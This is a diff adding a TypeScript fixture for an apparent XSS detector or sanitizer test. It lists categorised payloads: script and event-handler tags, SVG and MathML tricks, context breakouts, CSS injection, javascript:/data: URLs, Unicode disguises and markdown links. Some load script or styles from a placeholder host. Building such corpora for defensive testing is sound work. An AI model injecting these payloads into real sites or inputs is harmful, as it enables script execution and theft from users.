@@ -1,0 +1,145 @@
+/**
+ * Texts that would run a script, load something or leave their place if they were written into a page as they are. `RUN` is
+ * what they run, `AWAY` a host nobody has. Each is alive: `detector.int.test.ts` shows where each of them would bite.
+ */
+const forms = {
+  tags: [
+    '<script>RUN</script>',
+    '<ScRiPt>RUN</sCrIpT>',
+    '<script/x>RUN</script>',
+    '<script src=//AWAY/a.js></script>',
+    '<script type=module>RUN</script>',
+    '<scr<script>ipt>RUN</scr</script>ipt><script>RUN</script>',
+    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
+    '<iframe src="javascript:parent.RUN"></iframe>',
+    '<object data="javascript:RUN"></object>',
+    '<embed src="//AWAY/a.swf">',
+    '<base href="//AWAY/">',
+    '<meta http-equiv=refresh content="0;url=//AWAY/meta">',
+    '<link rel=stylesheet href=//AWAY/a.css>',
+    '<form action=javascript:RUN><button>x</button></form>',
+    '<isindex formaction=javascript:RUN type=submit>',
+  ],
+  handlers: [
+    '<img src=x onerror=RUN>',
+    '<img/src=x/onerror=RUN>',
+    '<img src=x onerror\n=\nRUN>',
+    '<img src="x" onerror="&#x52;UNN">'.replace('&#x52;UNN', '&#120;ss(INDEX)'),
+    '<image src=x onerror=RUN>',
+    '<body onload=RUN>',
+    '<body onpageshow=RUN>',
+    '<details open ontoggle=RUN>',
+    '<input autofocus onfocus=RUN>',
+    '<video src=x onerror=RUN></video>',
+    '<video><source onerror=RUN></video>',
+    '<audio src=x onerror=RUN>',
+    '<marquee onstart=RUN>',
+    '<div style="animation:x" onanimationstart=RUN>',
+    '<a href=# onclick=RUN>x</a>',
+    '<b onpointerrawupdate=RUN contenteditable>x</b>',
+  ],
+  foreign: [
+    '<svg onload=RUN>',
+    '<svg/onload=RUN>',
+    '<svg><script>RUN</script></svg>',
+    '<svg><script href="data:text/javascript,RUN"></script></svg>',
+    '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
+    '<svg><animate onbegin=RUN attributeName=x dur=1s>',
+    '<svg><set attributeName=href to="javascript:RUN"></svg>',
+    '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
+    '<math><mi href="javascript:RUN">x</mi></math>',
+    '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=RUN>',
+    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
+  ],
+  breakouts: [
+    '"><img src=x onerror=RUN>',
+    "'><img src=x onerror=RUN>",
+    '" autofocus onfocus=RUN tabindex=0 x="',
+    "' autofocus onfocus=RUN tabindex=0 x='",
+    '` onerror=RUN ',
+    '--><img src=x onerror=RUN>',
+    '--!><img src=x onerror=RUN>',
+    ']]><img src=x onerror=RUN>',
+    '</title><img src=x onerror=RUN>',
+    '</textarea><img src=x onerror=RUN>',
+    '</style><img src=x onerror=RUN>',
+    '</script><img src=x onerror=RUN>',
+    '</noscript><img src=x onerror=RUN>',
+    '</template><img src=x onerror=RUN>',
+    '</svg><img src=x onerror=RUN>',
+    '";RUN;//',
+    "';RUN;//",
+    '\\";RUN;//',
+    '${RUN}',
+    '\u2028RUN//',
+    '\u2029RUN//',
+  ],
+  css: [
+    '}*{background:url(//AWAY/css)}',
+    '}@import url(//AWAY/import);*{',
+    ';background-image:url(//AWAY/attribute)',
+    'red;} body::after{content:url(//AWAY/content)} x{',
+    '*/}*{background:url(//AWAY/comment)}/*',
+    "');}*{background:url(//AWAY/string)}",
+    '}</style><script>RUN</script>',
+    '@font-face{font-family:x;src:url(//AWAY/font)}*{font-family:x}',
+  ],
+  addresses: [
+    'javascript:RUN',
+    'JaVaScRiPt:RUN',
+    ' javascript:RUN',
+    '\u0001javascript:RUN',
+    'java\tscript:RUN',
+    'java\nscript:RUN',
+    'javascript\r:RUN',
+    'javascript://%0aRUN',
+    'javascript:/*--></title></style></textarea></script><svg onload=RUN>*/RUN',
+    'data:text/html,<script>RUN</script>',
+    'data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=',
+    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
+    'vbscript:RUN',
+    'feed:javascript:RUN',
+    'blob:null/x',
+    'view-source:javascript:RUN',
+    '//AWAY/protocol',
+    '\\\\AWAY\\backslash',
+  ],
+  disguises: [
+    '\u202e<img src=x onerror=RUN>\u202c',
+    '\u200b<svg onload=RUN>\u200d',
+    '\ufeff<img src=x onerror=RUN>',
+    '\u00a0<img\u000csrc=x\u000conerror=RUN>',
+    '<img src=x onerror=\\u0078ss(INDEX)>',
+    '<img src=x onerror="window[`xs`+`s`](INDEX)">',
+    '&lt;img src=x onerror=RUN&gt;<img src=x onerror=RUN>',
+    '%3Cimg%20src=x%20onerror=RUN%3E<img src=x onerror=RUN>',
+  ],
+  markdown: [
+    '[x](javascript:RUN)',
+    '[x](<java\tscript:RUN>)',
+    '[x](&#106;avascript:RUN)',
+    '![x](javascript:RUN)',
+    '![x"onerror="RUN](x)',
+    '<javascript:RUN>',
+    '[x]: javascript:RUN\n[x]',
+    '[x](https://a.b "onmouseover=RUN")<img src=x onerror=RUN>',
+    '```html\n<img src=x onerror=RUN>\n```\n<img src=x onerror=RUN>',
+  ],
+}
+
+export type Payload = { index: number; form: keyof typeof forms; text: string }
+
+export const away = 'away.invalid'
+
+const filled = (text: string, index: number): string =>
+  text.replaceAll('RUN', `xss(${index})`).replaceAll('INDEX', String(index)).replaceAll('AWAY', away)
+
+/** Every payload; the number it calls `xss` with says which of them ran. */
+export const payloads: readonly Payload[] = Object.entries(forms)
+  .flatMap(([form, texts]) => texts.map((text) => ({ form, text })))
+  .map(({ form, text }, index) => ({
+    index,
+    // The keys of an object come back as text; they are the forms.
+    form: form as Payload['form'],
+    text: filled(text, index),
+  }))
